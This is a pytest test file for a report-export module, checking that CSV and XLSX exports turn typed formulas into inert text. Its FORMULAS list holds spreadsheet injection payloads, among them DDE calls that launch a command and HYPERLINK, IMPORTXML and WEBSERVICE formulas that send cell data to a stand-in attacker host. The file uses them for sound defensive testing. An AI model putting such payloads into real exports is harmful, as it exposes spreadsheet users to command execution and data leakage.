"""CSV, XLSX and JSON: spreadsheets open them, and nothing anybody typed runs."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.reports.export import formats
from app.reports.export.formats import Cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "|calc",
    "%0A=1+1",
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
]
AT = datetime(2026, 11, 25, 14, 30, tzinfo=UTC)


async def feed(*rows: Sequence[Cell]) -> AsyncIterator[Sequence[Cell]]:
    for row in rows:
        yield row


async def made(form: str, columns: Sequence[str], *rows: Sequence[Cell]) -> bytes:
    return b"".join([piece async for piece in formats.write(form, columns, feed(*rows))])


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_formula_runs_in_a_csv_and_the_words_are_still_there(formula: str) -> None:
    text = (await made("csv", ["name"], [formula])).decode("utf-8-sig")
    _, (cell,) = csv.reader(io.StringIO(text, newline=""))
    assert cell == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_formula_runs_in_a_spreadsheet_and_the_words_are_exactly_what_was_typed(formula: str) -> None:
    content = await made("xlsx", ["name"], [formula])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type in ("s", "inlineStr"), "a text, never a formula"
    assert str(cell.value).replace("\r", "\n") == formula.replace("\r", "\n")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


async def test_a_spreadsheet_library_would_run_what_is_not_made_inert() -> None:
    """Negative control: the same words, written naively, are a formula."""
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = "=1+1"
    assert book.active["A1"].data_type == "f"


async def test_kinds_of_values_come_out_as_what_they_are() -> None:
    columns = ["text", "number", "share", "flag", "at", "none"]
    row: list[Cell] = ["Zoë <&> 漢", 7, 0.5, True, AT, None]
    sheet = openpyxl.load_workbook(io.BytesIO(await made("xlsx", columns, row))).active
    assert sheet is not None
    assert [tuple(values) for values in sheet.iter_rows(values_only=True)] == [
        tuple(columns),
        ("Zoë <&> 漢", 7, 0.5, True, "2026-11-25T14:30:00+00:00", None),
    ]
    assert json.loads(await made("json", columns, row)) == [
        dict(zip(columns, ["Zoë <&> 漢", 7, 0.5, True, "2026-11-25T14:30:00Z", None], strict=True))
    ]
    text = (await made("csv", columns, row)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [
        "Zoë <&> 漢",
        "7",
        "0.5",
        "yes",
        "2026-11-25T14:30:00+00:00",
        "",
    ]


async def test_no_rows_are_a_head_alone() -> None:
    assert json.loads(await made("json", ["a"])) == []
    assert (await made("csv", ["a"])).decode("utf-8-sig") == "a\r\n"
    sheet = openpyxl.load_workbook(io.BytesIO(await made("xlsx", ["a"]))).active
    assert sheet is not None
    assert sheet.max_row == 1


async def test_more_rows_than_a_sheet_holds_go_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(formats, "ROWS_MAX", 3)
    book = openpyxl.load_workbook(io.BytesIO(await made("xlsx", ["n"], *([n] for n in range(5)))))
    values = [[cell for (cell,) in sheet.iter_rows(values_only=True)] for sheet in book.worksheets]
    assert values == [["n", 0, 1], ["n", 2, 3], ["n", 4]]


@given(st.text(max_size=60))
async def test_any_text_at_all_opens_and_starts_nothing(text: str) -> None:
    content = await made("xlsx", ["name"], [text])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert sheet["A2"].data_type != "f"
    assert not formats.inert(text).startswith(("=", "+", "-", "@", "\t", "\r"))
